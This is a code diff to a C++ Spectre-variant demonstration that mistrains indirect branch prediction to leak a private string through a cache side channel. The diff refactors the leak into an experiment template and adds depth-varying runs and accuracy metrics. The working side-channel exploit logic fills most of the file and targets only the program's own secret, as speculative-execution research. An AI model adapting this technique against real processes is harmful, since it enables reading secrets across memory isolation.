@@ -11,16 +11,27 @@
 // that leads to type confusion during speculative execution. Leaks
 // architecturally inaccessible data from the process's address space.
 //
+// Usage: Orig-btb [depth] [--metrics=FILE]. The outcome of every leaked byte
+// is collected in a LeakMetrics; --metrics writes it as JSON.
+//
 // PLATFORM NOTES:
 // This program should leak data on pretty much any system where it compiles.
 // We only require an out-of-order CPU that predicts indirect branches.
 
+#include <algorithm>
 #include <array>
 #include <cstring>
+#include <fstream>
+#include <iomanip>
 #include <iostream>
+#include <memory>
+#include <string>
 
+#include "btb_experiment.h"
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
+#include "leak_metrics.h"
 #include "utils.h"
 
 // Objective: given some control over accesses to the *non-secret* string
@@ -31,46 +42,11 @@
 // offset.
 const char *public_data = "xxxxxxxxxxxxxxxx";
 const char *private_data = "It's a s3kr3t!!!";
-constexpr size_t kAccessorArrayLength = 1024;
+const LeakTarget leak_target = {public_data, private_data};
 
 // Global variable for configurable branch prediction depth
 static size_t g_branch_prediction_depth = 10;
 
-// DataAccessor provides an interface to access bytes from either the public or
-// the private storage.
-class DataAccessor {
- public:
-  virtual char GetDataByte(size_t index, bool read_from_private_data) = 0;
-  virtual ~DataAccessor() {};
- protected:
-  // Helper method that picks the pointer that you want to read from.
-  const char *GetDataPtr(bool read_from_private_data) const {
-    // This is the same as:
-    // return read_from_private_data ? private_data : public_data;
-    // It only avoids branching in case it is compiled without optimizations.
-    return public_data + (
-        private_data - public_data) * static_cast<int>(read_from_private_data);
-  }
-};
-
-// Behaves exactly by the specification, if you ask for public data, it gives
-// you public data, if you ask for private data, you get private data.
-class RealDataAccessor: public DataAccessor {
- public:
-  char GetDataByte(size_t index, bool read_from_private_data) override {
-    return GetDataPtr(read_from_private_data)[index];
-  }
-};
-
-// It gives you only public data, no matter what you ask for. Useful for cases
-// where you never want to leak the private data.
-class CensoringDataAccessor: public DataAccessor {
- public:
-  char GetDataByte(size_t index, bool /* read_from_private_data */) override {
-    return public_data[index];
-  }
-};
-
 // New classes for variable depth branch prediction
 class DepthChainAccessor : public DataAccessor {
 public:
@@ -85,7 +61,7 @@ class RealDepthAccessor : public DepthChainAccessor {
 public:
   char GetDataByteWithDepth(size_t index, bool read_from_private_data, size_t depth) override {
     if (depth == 0) {
-      return GetDataPtr(read_from_private_data)[index];
+      return GetDataPtr(leak_target, read_from_private_data)[index];
     }
     
     // Create another level of indirection - this is where the misprediction chain happens
@@ -129,150 +105,83 @@ size_t GetBranchPredictionDepth() {
   return g_branch_prediction_depth;
 }
 
-// Leaks the byte that is physically located at private_data[offset], without
-// ever loading it. In the abstract machine, and in the code executed by the
-// CPU, this function does not load any memory except for what is in the bounds
-// of `public_data`, and local auxiliary data.
-//
-// Instead, the leak is performed by indirect branch prediction during
-// speculative execution, mistraining the predictor to jump to the address of
-// GetDataByte implemented by RealDataAccessor that is unsafe for
-// CensoringDataAccessor.
-static char LeakByte(size_t offset) {
-  CacheSideChannel sidechannel;
-  const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
-  auto array_of_pointers =
-      std::unique_ptr<std::array<DataAccessor *, kAccessorArrayLength>>(
-          new std::array<DataAccessor *, kAccessorArrayLength>());
-
-  // RealDataAccessor, leaks both private and public data according to the
-  // parameter it is provided with.
-  auto real_data_accessor = std::unique_ptr<DataAccessor>(
-      new RealDataAccessor);
-
-  // CensoringDataAccessor, architecturally leaks only public data and ignores
-  // the read_from_private_data parameter.
-  auto censoring_data_accessor = std::unique_ptr<DataAccessor>(
-      new CensoringDataAccessor);
-
-  for (int run = 0;; ++run) {
-    sidechannel.FlushOracle();
-
-    // Before each run all pointers are reset to point to the
-    // real_data_accessor.
-    for (auto &pointer : *array_of_pointers) {
-      pointer = real_data_accessor.get();
-    }
-
-    // Only one of the pointers is then changed so that it points to the
-    // CensoringDataAccessor. Its index is local_pointer_index.
-    size_t local_pointer_index = run % kAccessorArrayLength;
-    (*array_of_pointers)[local_pointer_index] = censoring_data_accessor.get();
-
-    for (size_t i = 0; i <= local_pointer_index; ++i) {
-      DataAccessor *accessor = (*array_of_pointers)[i];
-      // On the local_pointer_index we have the censoring data accessor for
-      // which the read_private_data can be true, because that accessor will
-      // ignore that argument and use the public data anyway.
-      bool read_private_data = (i == local_pointer_index);
-
-      // When i == local_pointer_index, we get size of the
-      // CensoringDataAccessor, otherwise of the RealDataAccessor.
-      size_t object_size_in_bytes = sizeof(
-          RealDataAccessor) + (sizeof(CensoringDataAccessor) - sizeof(
-              RealDataAccessor)) * (i == local_pointer_index);
-
-      // We make sure to flush whole accessor object in case it is
-      // hypothetically on multiple cache-lines.
-      const char *accessor_bytes = reinterpret_cast<const char*>(accessor);
-      FlushFromDataCache(accessor_bytes, accessor_bytes + object_size_in_bytes);
-
-      // Speculative fetch at the offset. Architecturally it fetches
-      // always from the public_data, though speculatively it fetches the
-      // private_data when i is at the local_pointer_index.
-      ForceRead(oracle.data() + static_cast<size_t>(
-          accessor->GetDataByte(offset, read_private_data)));
-    }
+// Chain policy of BtbExperiment for the depth accessors above: each accessor
+// calls itself `depth` times before reading.
+class SelfRecursiveChain {
+ public:
+  using Accessor = DepthChainAccessor;
+
+  explicit SelfRecursiveChain(size_t depth)
+      : depth_(depth),
+        real_(new RealDepthAccessor),
+        censoring_(new CensoringDepthAccessor) {}
+
+  Accessor *real() const { return real_.get(); }
+  Accessor *censoring() const { return censoring_.get(); }
+  char Call(Accessor *accessor, size_t index,
+            bool read_from_private_data) const {
+    // Each call to GetDataByteWithDepth creates 'depth' number of indirect
+    // branch predictions that can be mispredicted
+    return accessor->GetDataByteWithDepth(index, read_from_private_data,
+                                          depth_);
+  }
+  static size_t object_size() {
+    return std::max(sizeof(RealDepthAccessor), sizeof(CensoringDepthAccessor));
+  }
+  static const LeakTarget &target() { return leak_target; }
 
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(public_data[offset]);
-    if (result.first) {
-      return result.second;
-    }
+ private:
+  size_t depth_;
+  std::unique_ptr<RealDepthAccessor> real_;
+  std::unique_ptr<CensoringDepthAccessor> censoring_;
+};
 
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
+// Leaks the byte that is physically located at private_data[offset] through a
+// single mispredicted call, see BtbExperiment.
+static char LeakByte(CacheSideChannel &sidechannel, size_t offset) {
+  BtbExperiment<DirectChain<leak_target>> experiment;
+  ExperimentOutcome outcome =
+      experiment.LeakByte(sidechannel, offset, ExperimentBudget());
+  if (!outcome.converged) {
+    std::cerr << "Does not converge " << outcome.value << std::endl;
+    exit(EXIT_FAILURE);
   }
+  return outcome.value;
 }
 
-// NEW FUNCTION: Variable depth leak function
-static char LeakByteVariableDepth(size_t offset, size_t depth) {
-  CacheSideChannel sidechannel;
-  const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
-  auto array_of_pointers =
-      std::unique_ptr<std::array<DepthChainAccessor *, kAccessorArrayLength>>(
-          new std::array<DepthChainAccessor *, kAccessorArrayLength>());
-
-  // Create depth-aware accessors
-  auto real_depth_accessor = std::unique_ptr<RealDepthAccessor>(
-      new RealDepthAccessor);
-  auto censoring_depth_accessor = std::unique_ptr<CensoringDepthAccessor>(
-      new CensoringDepthAccessor);
-  
-  // Set up the chain - each accessor points to itself for recursive calls
-  // This creates the chain of indirect calls that will be mispredicted
-  real_depth_accessor->SetNextAccessor(real_depth_accessor.get());
-  censoring_depth_accessor->SetNextAccessor(censoring_depth_accessor.get());
-
-  for (int run = 0;; ++run) {
-    sidechannel.FlushOracle();
-
-    // Train with real accessors - this trains the branch predictor
-    for (auto &pointer : *array_of_pointers) {
-      pointer = real_depth_accessor.get();
-    }
-
-    // Replace one with censoring accessor - this will cause misprediction
-    size_t local_pointer_index = run % kAccessorArrayLength;
-    (*array_of_pointers)[local_pointer_index] = censoring_depth_accessor.get();
-
-    for (size_t i = 0; i <= local_pointer_index; ++i) {
-      DepthChainAccessor *accessor = (*array_of_pointers)[i];
-      bool read_private_data = (i == local_pointer_index);
-
-      // Flush accessor from cache
-      size_t object_size = (i == local_pointer_index) ? 
-          sizeof(CensoringDepthAccessor) : sizeof(RealDepthAccessor);
-      const char *accessor_bytes = reinterpret_cast<const char*>(accessor);
-      FlushFromDataCache(accessor_bytes, accessor_bytes + object_size);
-
-      // This is where the variable depth magic happens
-      // Each call to GetDataByteWithDepth creates 'depth' number of 
-      // indirect branch predictions that can be mispredicted
-      ForceRead(oracle.data() + static_cast<size_t>(
-          accessor->GetDataByteWithDepth(offset, read_private_data, depth)));
-    }
-
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(public_data[offset]);
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge at depth " << depth << std::endl;
-      exit(EXIT_FAILURE);
-    }
+// NEW FUNCTION: Variable depth leak function. Records the outcome in
+// `metrics` under `depth`.
+static char LeakByteVariableDepth(CacheSideChannel &sidechannel,
+                                  LeakMetrics::Shard &metrics, size_t offset,
+                                  size_t depth) {
+  BtbExperiment<SelfRecursiveChain> experiment{SelfRecursiveChain(depth)};
+  ExperimentOutcome outcome =
+      experiment.LeakByte(sidechannel, offset, ExperimentBudget());
+
+  if (!outcome.converged) {
+    std::cerr << "Does not converge at depth " << depth << std::endl;
+    exit(EXIT_FAILURE);
   }
+  metrics.Record({depth, offset, private_data[offset], outcome.value, true,
+                  outcome.runs, outcome.elapsed_cycles,
+                  sidechannel.confidence()});
+  return outcome.value;
 }
 
 int main(int argc, char* argv[]) {
+  // One channel for all bytes; LeakByte* reset its scores before each byte.
+  CacheSideChannel sidechannel;
+  LeakMetrics metrics;
+  std::string metrics_path;
+
   // Allow depth to be set via command line argument
-  if (argc > 1) {
-    size_t new_depth = std::stoull(argv[1]);
-    SetBranchPredictionDepth(new_depth);
+  for (int i = 1; i < argc; ++i) {
+    std::string argument = argv[i];
+    if (argument.compare(0, 10, "--metrics=") == 0) {
+      metrics_path = argument.substr(10);
+    } else {
+      SetBranchPredictionDepth(std::stoull(argument));
+    }
   }
   
   std::cout << "Using branch prediction depth: " << GetBranchPredictionDepth() << std::endl;
@@ -281,7 +190,8 @@ int main(int argc, char* argv[]) {
   
   for (size_t i = 0; i < strlen(public_data); ++i) {
     // Use the new variable depth function instead of the original LeakByte
-    std::cout << LeakByteVariableDepth(i, g_branch_prediction_depth);
+    std::cout << LeakByteVariableDepth(sidechannel, metrics.shard(0), i,
+                                       g_branch_prediction_depth);
     std::cout.flush();
   }
   std::cout << "\nDone!\n";
@@ -290,11 +200,36 @@ int main(int argc, char* argv[]) {
   std::cout << "\nTesting first character with different depths:\n";
   for (size_t test_depth : {1, 5, 15, 25}) {
     std::cout << "Depth " << test_depth << ": " 
-              << LeakByteVariableDepth(0, test_depth) << std::endl;
+              << LeakByteVariableDepth(sidechannel, metrics.shard(0), 0,
+                                       test_depth)
+              << std::endl;
   }
   
   // Optional: Test original function for comparison
-  std::cout << "\nOriginal function (depth 1): " << LeakByte(0) << std::endl;
+  std::cout << "\nOriginal function (depth 1): " << LeakByte(sidechannel, 0)
+            << std::endl;
+
+  metrics.Merge();
+  std::cout << "\nAccuracy by depth:" << std::endl;
+  for (size_t depth = 0; depth < LeakMetrics::kMaxKeys; ++depth) {
+    const LeakCounters &counters = metrics.key(depth);
+    if (counters.trials == 0) {
+      continue;
+    }
+    auto interval = counters.accuracy_interval();
+    std::cout << "Depth " << depth << ": " << counters.correct << "/"
+              << counters.trials << " (95% CI " << std::fixed
+              << std::setprecision(2) << interval.first << "-"
+              << interval.second << ")" << std::endl;
+  }
+  if (!metrics_path.empty()) {
+    std::ofstream out(metrics_path, std::ios::trunc);
+    out << metrics.Json("depth") << std::endl;
+    if (!out) {
+      std::cerr << "Writing " << metrics_path << " failed." << std::endl;
+      return EXIT_FAILURE;
+    }
+  }
   
   return 0;
 }